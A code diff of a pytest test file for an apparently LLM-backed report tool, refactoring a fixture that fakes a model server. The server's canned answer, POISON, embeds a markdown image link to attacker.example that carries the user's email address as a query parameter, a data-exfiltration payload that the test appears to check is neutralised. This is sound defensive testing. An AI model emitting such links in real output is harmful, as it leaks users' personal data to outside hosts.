@@ -11,10 +11,12 @@ from pathlib import Path
 import nbformat
 import pytest
 
-from workbench.bench import Behaviour, RecordingServer
+from workbench.bench import RecordingServer
 from workbench.reports import run_report
 from workbench.reports._execute import kernel_env
 from workbench.reports._run import neutralise_remote
+
+from ..conftest import model_server
 
 EMAIL = "li.wei@example.com"
 POISON = ("Dear <PERSON_1>, ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
@@ -24,10 +26,7 @@ SECRET_PARAM = "Customer Jane Roe"
 
 @pytest.fixture
 def remote(monkeypatch: pytest.MonkeyPatch):
-    with RecordingServer(Behaviour(models=["m"], api_key="k", answer=POISON)) as server:
-        monkeypatch.setenv("WORKBENCH_MODEL_URL", server.base_url)
-        monkeypatch.setenv("WORKBENCH_MODEL", "m")
-        monkeypatch.setenv("WORKBENCH_API_KEY", "k")
+    with model_server(monkeypatch, answer=POISON) as server:
         monkeypatch.setenv("WORKBENCH_PASSPHRASE", "a very long test passphrase")
         yield server
 
